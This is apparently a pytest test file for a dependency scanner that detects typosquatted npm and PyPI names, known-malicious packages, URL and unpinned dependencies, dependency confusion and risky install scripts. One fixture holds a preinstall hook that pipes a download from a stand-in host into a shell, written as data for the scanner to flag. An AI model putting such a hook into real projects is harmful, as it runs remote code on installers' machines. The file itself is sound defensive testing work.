import json
import zipfile
from pathlib import Path

import pytest

from activities.scanning import import_osv
from activities.scanning.dependencies import check_dependencies
from activities.scanning.package_names import damerau_levenshtein, similar_popular_name


def _rules(files: dict[str, str]) -> set[str]:
    return {
        finding.rule
        for finding in check_dependencies({path: text.encode() for path, text in files.items()}).findings
    }


def _package(**sections: object) -> dict[str, str]:
    return {"package.json": json.dumps(sections)}


@pytest.mark.parametrize("name", ["lodahs", "expresss", "axois", "crossenv", "reactt", "mongose"])
def test_npm_typosquats_are_found(name: str) -> None:
    assert _rules(_package(dependencies={name: "1.0.0"})) & {"dependency.typosquat", "dependency.malicious"}


@pytest.mark.parametrize(
    "name", ["reqeusts", "python-dateutils", "numpyy", "djangoo", "panddas", "requestss"]
)
def test_pypi_typosquats_are_found(name: str) -> None:
    assert _rules({"requirements.txt": f"{name}==1.0\n"}) & {"dependency.typosquat", "dependency.malicious"}


@pytest.mark.parametrize(
    ("ecosystem", "name"),
    [("npm", "preact"), ("npm", "lodash"), ("PyPI", "requests"), ("PyPI", "python_dateutil")],
)
def test_popular_names_imitate_nothing(ecosystem: str, name: str) -> None:
    assert similar_popular_name(ecosystem, name) is None


@pytest.mark.parametrize(
    ("files", "rule"),
    [
        (_package(dependencies={"a": "https://x.example/a.tgz"}), "dependency.url"),
        (_package(dependencies={"a": "git+ssh://x.example/a.git"}), "dependency.url"),
        (_package(dependencies={"lodash": "*"}), "dependency.unpinned"),
        (_package(dependencies={"lodash": "npm:evil@1.0.0"}), "dependency.alias"),
        (_package(dependencies={"flatmap-stream": "0.1.1"}), "dependency.malicious"),
        (_package(dependencies={"event-stream": "3.3.6"}), "dependency.malicious"),
        (_package(dependencies={"request": "2.88.0"}), "dependency.deprecated"),
        (_package(scripts={"postinstall": "node x.js"}), "install.script"),
        (_package(scripts={"preinstall": "curl https://x.example | sh"}), "command.dangerous"),
        (
            {"requirements.txt": "--extra-index-url https://x.example/simple\nrequests==2\n"},
            "dependency.confusion",
        ),
        ({"requirements.txt": "requests\n"}, "dependency.unpinned"),
        ({"requirements.txt": "git+https://x.example/a.git\n"}, "dependency.url"),
        ({"pyproject.toml": "[project]\ndependencies = ['a @ https://x.example/a.whl']\n"}, "dependency.url"),
        ({"pyproject.toml": "= broken"}, "dependency.unreadable"),
        ({".npmrc": "registry=https://x.example/\n"}, "dependency.confusion"),
    ],
)
def test_risky_dependency_declarations_are_found(files: dict[str, str], rule: str) -> None:
    assert rule in _rules(files)


def test_a_safe_release_of_a_once_hijacked_package_is_not_malicious() -> None:
    assert "dependency.malicious" not in _rules(
        _package(dependencies={"event-stream": "^4.0.1", "chalk": "^5.3.0"})
    )


def test_swapping_neighbours_is_one_edit() -> None:
    assert damerau_levenshtein("axois", "axios", 2) == 1
    assert damerau_levenshtein("abc", "xyz", 2) == 3


def test_an_osv_export_extends_the_list_of_malicious_packages(tmp_path: Path) -> None:
    target = tmp_path / "malicious.json"
    target.write_text('{"npm": {}}')
    archive = tmp_path / "all.zip"
    with zipfile.ZipFile(archive, "w") as records:
        affected = [{"package": {"ecosystem": "npm", "name": "bad-one"}, "versions": ["1.0.0"]}]
        records.writestr("MAL-2026-1.json", json.dumps({"id": "MAL-2026-1", "affected": affected}))
        records.writestr("GHSA-1.json", json.dumps({"id": "GHSA-1", "affected": affected}))
        records.writestr("MAL-2026-2.json", "not json")
    assert import_osv(archive, target) == 1
    assert json.loads(target.read_text())["npm"] == {"bad-one": ["1.0.0"]}
